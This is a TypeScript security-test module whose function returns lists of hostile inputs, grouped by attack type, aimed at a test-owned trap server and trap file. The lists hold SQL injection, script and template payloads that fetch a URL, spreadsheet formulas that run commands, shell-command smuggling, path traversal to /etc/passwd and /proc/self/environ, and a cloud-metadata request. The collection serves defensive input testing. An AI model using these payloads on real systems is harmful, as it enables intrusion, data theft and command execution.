/** What would show that something of ours ran, or went out, because somebody wrote it. */
export interface Traps {
  /** a server of the test's own that nobody may ask */
  readonly url: string;
  /** a file that nobody may make */
  readonly file: string;
}

/** Texts by what they try; every one of them ends up somewhere that a person's words end up. */
export function hostileTexts({ url, file }: Traps): Readonly<Record<string, readonly string[]>> {
  return {
    sql: [
      `' or 1=1--`,
      `'; drop table places; --`,
      `1); delete from accounts; --`,
      `x'::uuid; select pg_sleep(20); --`,
      `'; copy (select 1) to program 'touch ${file}'; --`,
      `$$; drop table files; $$`,
      `%' escape '\\`,
      `\\'; set role postgres; --`,
      '{"$ne":null}',
    ],
    markup: [
      `<script>fetch('${url}')</script>`,
      `"><img src=x onerror=fetch('${url}')>`,
      `<svg onload=fetch('${url}')>`,
      `<svg><script href="${url}"/></svg>`,
      `<iframe srcdoc="<script>top.fetch('${url}')</script>">`,
      `javascript:fetch('${url}')`,
      `</script><script src=${url}></script>`,
      `<style>@import '${url}'</style>`,
      `{{constructor.constructor("fetch('${url}')")()}}`,
      '${7*7}#{7*7}<%= 7*7 %>',
    ],
    formula: [
      `=HYPERLINK("${url}","Klicka")`,
      `=cmd|' /C touch ${file}'!A0`,
      `@SUM(1+1)*cmd|' /C calc'!A0`,
      '+1+1',
      '-2+3',
      `Torget;=WEBSERVICE("${url}")`,
      `\t=1+1`,
      `'=1+1`,
      '\uff1d1+1',
    ],
    shell: [
      `$(touch ${file})`,
      `\`touch ${file}\``,
      `; touch ${file}`,
      `| touch ${file}`,
      `\ntouch ${file}\n`,
      `--output=${file}`,
    ],
    path: [
      '../../../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      '....//....//etc/passwd',
      '/proc/self/environ',
      'file:///etc/passwd',
      String.raw`C:\..\..\boot.ini`,
      String.raw`\\evil.example\share`,
      'skolor.csv\0.exe',
      'con.csv',
      '.',
      '..',
    ],
    outside: [
      `${url}/outside`,
      `http://169.254.169.254/latest/meta-data`,
      `gopher://127.0.0.1:5432/_`,
      `//${url.slice(7)}`,
    ],
    letters: [
      'Т\u043erget',
      'Torget\u202Egpj.exe',
      'To\u200brg\u2060et',
      'Torget\0',
      '\ud800',
      'a\udfffb',
      `Z${'\u0351'.repeat(300)}`,
      '\ufeffTorget',
      'Torget\u2028\u2029\u0085',
      '\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}',
      '\u{10ffff}\u{fffe}',
      'ﷺ'.repeat(200),
      '\r\nset-cookie: platsbild=taken\r\n\r\n<script>',
      'İıſK',
    ],
    names: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then', 'valueOf', '__defineGetter__', '$where'],
    length: [
      '',
      ' ',
      'x'.repeat(201),
      'å'.repeat(1001),
      'x'.repeat(60_000),
      `${'a'.repeat(30_000)}!`,
      '\t'.repeat(5000),
    ],
    number: ['1e999', '-0', 'NaN', 'Infinity', '99999999999999999999', '0x10', '1_000', '٣', '1,5', 'true', 'null'],
  };
}
